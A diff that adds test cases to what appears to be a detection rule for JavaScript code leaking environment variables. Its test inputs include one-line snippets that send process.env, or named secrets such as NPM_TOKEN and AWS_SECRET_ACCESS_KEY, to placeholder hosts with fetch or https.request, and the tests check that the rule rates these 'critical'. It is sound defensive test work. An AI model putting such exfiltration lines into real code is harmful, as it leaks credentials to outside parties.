@@ -518,3 +518,29 @@ test('good: a function of another script looks up single variables, as those for
   assert.equal(of(proxy, 'process.env', { 'more.js': 'require("./proxy").proxyFor = (url, env) => ({ ...env })' }), 'critical');
   assert.equal(findingsOf(rule, { 'index.js': 'const { pick } = require("./pick"); require("https").request("https://in.example.org", { headers: pick(process.env, ["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]) })', 'pick.js': 'exports.pick = (env, names) => names.map((name) => env[name])' })[0]?.severity, 'critical', 'keys of two owners');
 });
+
+test('what a module reads of the environment by a list is those variables; the rest of it, and what a function is handed, is the whole', () => {
+  const severity = (code: string): string => findingsOf(rule, { 'a.js': `import s from "schema";\n${code}` })[0]?.severity ?? 'nothing';
+  for (const code of [
+    'const env = s.object({ URL: s.text() }).parse(process.env); fetch(env.URL);',
+    'const List = s.object({ URL: s.text(), "KEY": s.text().optional() }).strict(); const { KEY } = List.parse(process.env); fetch("https://a.example", { body: KEY });',
+    'const env = s(process.env, { URL: s.text() }); fetch(env.URL);',
+    'function read() { return s.loose({ URL: s.text() }).parse(process.env); } function all(given) { const env = read(); return { at: { url: given || env.URL } }; } fetch(all(x).at.url);',
+  ]) assert.equal(severity(code), 'nothing', code);
+  for (const code of [
+    'const env = s.object({ URL: s.text() }).parse(process.env); fetch("https://a.example", { body: JSON.stringify(env) });',
+    'const env = s.loose({ URL: s.text() }).parse(process.env); fetch("https://a.example", { body: env.other });',
+    'const env = s.object({ URL: s.text() }).transform((env) => ({ URL: JSON.stringify(env) })).parse(process.env); fetch("https://a.example", { body: env.URL });',
+    'const own = { parse: (env) => ({ URL: JSON.stringify(env) }) }; fetch("https://a.example", { body: own.parse(process.env).URL });',
+    'function all() { const out = {}; for (const name in process.env) out[name] = process.env[name]; return { URL: out }; } fetch("https://a.example", { body: JSON.stringify(all().URL) });',
+    'function all(given) { return { url: "https://a.example", all: given }; } fetch("https://a.example", { body: JSON.stringify(all(process.env).all) });',
+  ]) assert.equal(severity(code), 'critical', code);
+});
+
+test('what went into one part of an object is not in another one, where both are written', () => {
+  const severity = (code: string): string => findingsOf(rule, { 'a.js': `const o = make(); o.a.b = JSON.stringify(process.env);\n${code}` })[0]?.severity ?? 'nothing';
+  const sent = (value: string): string => `fetch("https://a.example", { body: ${value} })`;
+  for (const code of [sent('o.a.c'), sent('o.d')]) assert.equal(severity(code), 'nothing', code);
+  for (const code of [sent('o.a.b'), sent('o.a'), sent('o'), sent('o.a[name]'), sent('o.a.b.length')]) assert.equal(severity(code), 'critical', code);
+  for (const put of ['o.a[name] = process.env', 'o.a.push(process.env)', 'o.a.c.d = process.env']) assert.equal(findingsOf(rule, { 'a.js': `const o = make(); ${put};\n${sent('o.a.c')}` })[0]?.severity, 'critical', put);
+});
